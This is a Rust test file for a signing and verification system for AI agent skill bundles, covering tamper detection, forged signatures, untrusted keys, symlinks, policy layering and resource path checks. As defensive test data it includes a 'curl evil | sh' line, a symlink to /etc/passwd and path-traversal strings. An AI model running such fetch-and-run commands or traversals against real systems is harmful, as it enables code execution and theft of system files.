use std::fs;

use super::write_skill;
use crate::{
    SIGNATURE_FILE, SecretKey, SignatureFile, SkillError, SkillSource, SkillsPolicy, Trust,
    load_skill, sign_bundle, verify_bundle,
};

fn signed_bundle() -> (tempfile::TempDir, std::path::PathBuf, SecretKey) {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = write_skill(
        tmp.path(),
        "legal",
        "Review contracts",
        Some("[read_symbol, edit]"),
    );
    fs::create_dir_all(dir.join("templates/.hidden")).expect("mkdir");
    fs::write(dir.join("templates/clause.md"), "Limitation of liability\n").expect("write");
    fs::write(
        dir.join("templates/.hidden/x"),
        "hidden files are covered too\n",
    )
    .expect("write");
    let key = SecretKey::generate().expect("key");
    sign_bundle(&dir, &key).expect("sign");
    (tmp, dir, key)
}

#[test]
fn round_trip_verifies_under_the_trusted_key() {
    let (_tmp, dir, key) = signed_bundle();
    let v = verify_bundle(&dir, &[key.public()]).expect("verifies");
    assert_eq!(v.key, key.public());
    let sig: SignatureFile =
        serde_json::from_str(&fs::read_to_string(dir.join(SIGNATURE_FILE)).expect("read"))
            .expect("json");
    assert_eq!(sig.key, key.public().to_string());
    assert!(sig.files.contains_key("templates/.hidden/x"));
    assert!(
        !sig.files.contains_key(SIGNATURE_FILE),
        "the signature file is not in its own manifest"
    );
    // Re-signing is idempotent over unchanged content.
    sign_bundle(&dir, &key).expect("re-sign");
    assert!(verify_bundle(&dir, &[key.public()]).is_ok());
}

#[test]
fn changed_file_is_refused_and_named() {
    let (_tmp, dir, key) = signed_bundle();
    fs::write(dir.join("templates/clause.md"), "Unlimited liability\n").expect("write");
    match verify_bundle(&dir, &[key.public()]) {
        Err(SkillError::Tampered { diff, .. }) => {
            assert_eq!(diff.changed, vec!["templates/clause.md"])
        }
        other => panic!("expected Tampered, got {other:?}"),
    }
}

#[test]
fn added_file_is_refused_and_named() {
    let (_tmp, dir, key) = signed_bundle();
    fs::write(dir.join("templates/extra.sh"), "curl evil | sh\n").expect("write");
    match verify_bundle(&dir, &[key.public()]) {
        Err(SkillError::Tampered { diff, .. }) => {
            assert_eq!(diff.added, vec!["templates/extra.sh"])
        }
        other => panic!("expected Tampered, got {other:?}"),
    }
}

#[test]
fn removed_file_is_refused_and_named() {
    let (_tmp, dir, key) = signed_bundle();
    fs::remove_file(dir.join("templates/.hidden/x")).expect("rm");
    match verify_bundle(&dir, &[key.public()]) {
        Err(SkillError::Tampered { diff, .. }) => {
            assert_eq!(diff.removed, vec!["templates/.hidden/x"])
        }
        other => panic!("expected Tampered, got {other:?}"),
    }
}

#[test]
fn rewriting_the_file_list_does_not_help_a_tamperer() {
    // The attacker edits a file and also updates the recorded hashes and manifest digest: the
    // signature no longer matches the manifest.
    let (_tmp, dir, key) = signed_bundle();
    fs::write(
        dir.join("SKILL.md"),
        "---\nname: legal\ndescription: d\nversion: 1\n---\nrun_command anything\n",
    )
    .expect("write");
    let fresh = crate::bundle::hash_bundle(&dir).expect("hash");
    let path = dir.join(SIGNATURE_FILE);
    let mut sig: SignatureFile =
        serde_json::from_str(&fs::read_to_string(&path).expect("read")).expect("json");
    sig.manifest_sha256 =
        crate::bundle::sha256_hex(crate::bundle::canonical_manifest(&fresh).as_bytes());
    sig.files = fresh;
    fs::write(&path, serde_json::to_string(&sig).expect("json")).expect("write");
    match verify_bundle(&dir, &[key.public()]) {
        Err(SkillError::BadSignature { reason, .. }) => {
            assert!(reason.contains("does not verify"), "{reason}")
        }
        other => panic!("expected BadSignature, got {other:?}"),
    }
}

#[test]
fn forged_signature_bytes_are_refused() {
    let (_tmp, dir, key) = signed_bundle();
    let path = dir.join(SIGNATURE_FILE);
    let mut sig: SignatureFile =
        serde_json::from_str(&fs::read_to_string(&path).expect("read")).expect("json");
    let mut bytes = hex::decode(&sig.signature).expect("hex");
    bytes[10] ^= 0x01;
    sig.signature = hex::encode(bytes);
    fs::write(&path, serde_json::to_string(&sig).expect("json")).expect("write");
    assert!(matches!(
        verify_bundle(&dir, &[key.public()]),
        Err(SkillError::BadSignature { .. })
    ));
}

#[test]
fn a_signature_made_with_another_key_but_claiming_the_trusted_key_is_refused() {
    let (_tmp, dir, trusted) = signed_bundle();
    let attacker = SecretKey::generate().expect("key");
    sign_bundle(&dir, &attacker).expect("sign");
    let path = dir.join(SIGNATURE_FILE);
    let mut sig: SignatureFile =
        serde_json::from_str(&fs::read_to_string(&path).expect("read")).expect("json");
    sig.key = trusted.public().to_string();
    fs::write(&path, serde_json::to_string(&sig).expect("json")).expect("write");
    assert!(matches!(
        verify_bundle(&dir, &[trusted.public()]),
        Err(SkillError::BadSignature { .. })
    ));
}

#[test]
fn valid_signature_by_an_untrusted_key_is_refused() {
    let (_tmp, dir, _key) = signed_bundle();
    let other = SecretKey::generate().expect("key");
    match verify_bundle(&dir, &[other.public()]) {
        Err(SkillError::UntrustedKey { key, .. }) => assert!(key.starts_with("ed25519:")),
        other => panic!("expected UntrustedKey, got {other:?}"),
    }
}

#[cfg(unix)]
#[test]
fn symlinks_are_refused_for_signing_and_loading() {
    let (_tmp, dir, key) = signed_bundle();
    std::os::unix::fs::symlink("/etc/passwd", dir.join("templates/passwd")).expect("symlink");
    assert!(matches!(
        sign_bundle(&dir, &key),
        Err(SkillError::BadBundle { .. })
    ));
    assert!(matches!(
        verify_bundle(&dir, &[key.public()]),
        Err(SkillError::BadBundle { .. })
    ));
    let lax = SkillsPolicy::default();
    assert!(matches!(
        load_skill(&dir, SkillSource::Workspace, &lax),
        Err(SkillError::BadBundle { .. })
    ));
}

#[test]
fn require_signed_refuses_with_the_reason_else_loads_restricted() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = write_skill(tmp.path(), "finance", "Reconcile ledgers", None);
    let strict = SkillsPolicy {
        require_signed: true,
        trusted_keys: vec![],
    };
    match load_skill(&dir, SkillSource::Workspace, &strict) {
        Err(SkillError::Refused { name, reason }) => {
            assert_eq!(name, "finance");
            assert!(reason.contains("unsigned"), "{reason}");
        }
        other => panic!("expected Refused, got {other:?}"),
    }
    let lax = SkillsPolicy::default();
    let skill = load_skill(&dir, SkillSource::Workspace, &lax).expect("loads");
    assert!(matches!(&skill.trust, Trust::Restricted { reason } if reason.contains("unsigned")));

    let key = SecretKey::generate().expect("key");
    sign_bundle(&dir, &key).expect("sign");
    let untrusted = load_skill(&dir, SkillSource::Workspace, &strict);
    assert!(
        matches!(untrusted, Err(SkillError::Refused { reason, .. }) if reason.contains("not a trusted key"))
    );
    let trusting = SkillsPolicy {
        require_signed: true,
        trusted_keys: vec![key.public()],
    };
    let ok = load_skill(&dir, SkillSource::Workspace, &trusting).expect("loads");
    assert_eq!(
        ok.trust,
        Trust::Verified {
            key: key.public().to_string()
        }
    );
}

#[test]
fn key_files_round_trip_with_owner_only_permissions() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let path = tmp.path().join("k.secret");
    let key = SecretKey::generate().expect("key");
    key.write_new(&path).expect("write");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(&path).expect("meta").permissions().mode() & 0o777;
        assert_eq!(mode, 0o600);
    }
    assert_eq!(SecretKey::read(&path).expect("read").public(), key.public());
    assert!(
        key.write_new(&path).is_err(),
        "never overwrites an existing key file"
    );
    let text = key.public().to_string();
    assert_eq!(crate::PublicKey::parse(&text).expect("parse"), key.public());
    assert!(crate::PublicKey::parse("ed25519:abcd").is_err());
    assert!(crate::PublicKey::parse("rsa:00").is_err());
}

#[test]
fn policy_layers_never_let_the_user_add_keys_the_enterprise_did_not() {
    let a = SecretKey::generate().expect("key").public();
    let b = SecretKey::generate().expect("key").public();
    let ent = format!("[skills]\ntrusted_keys = [\"{a}\"]\n");
    let usr = format!("[skills]\nrequire_signed = false\ntrusted_keys = [\"{b}\"]\n");
    let p = SkillsPolicy::from_layers(Some(&ent), Some(&usr)).expect("parse");
    assert_eq!(p.trusted_keys, vec![a]);
    let p = SkillsPolicy::from_layers(Some("[skills]\nrequire_signed = true\n"), Some(&usr))
        .expect("parse");
    assert!(
        p.require_signed,
        "the user cannot turn off the enterprise's require_signed"
    );
    assert_eq!(p.trusted_keys, vec![b]);
}

#[test]
fn resources_are_served_only_while_they_match_the_vetted_bytes() {
    let (_tmp, dir, key) = signed_bundle();
    let policy = SkillsPolicy {
        require_signed: true,
        trusted_keys: vec![key.public()],
    };
    let skill = load_skill(&dir, SkillSource::Bundled, &policy).expect("loads");
    let listed: Vec<_> = skill.resources().collect();
    assert_eq!(listed, vec!["templates/.hidden/x", "templates/clause.md"]);
    assert_eq!(
        skill.read_resource("templates/clause.md").expect("read"),
        "Limitation of liability\n"
    );
    let prompt = crate::system_prompt_section(&skill);
    assert!(
        prompt.contains("templates/clause.md"),
        "resources are listed for the model"
    );
    for outside in ["../../etc/passwd", "/etc/passwd", "SKILL.md", "templates"] {
        assert!(
            matches!(
                skill.read_resource(outside),
                Err(SkillError::Resource { .. })
            ),
            "{outside} must be refused"
        );
    }
    fs::write(dir.join("templates/clause.md"), "Unlimited liability\n").expect("write");
    assert!(matches!(
        skill.read_resource("templates/clause.md"),
        Err(SkillError::Resource { reason, .. }) if reason.contains("changed")
    ));
}
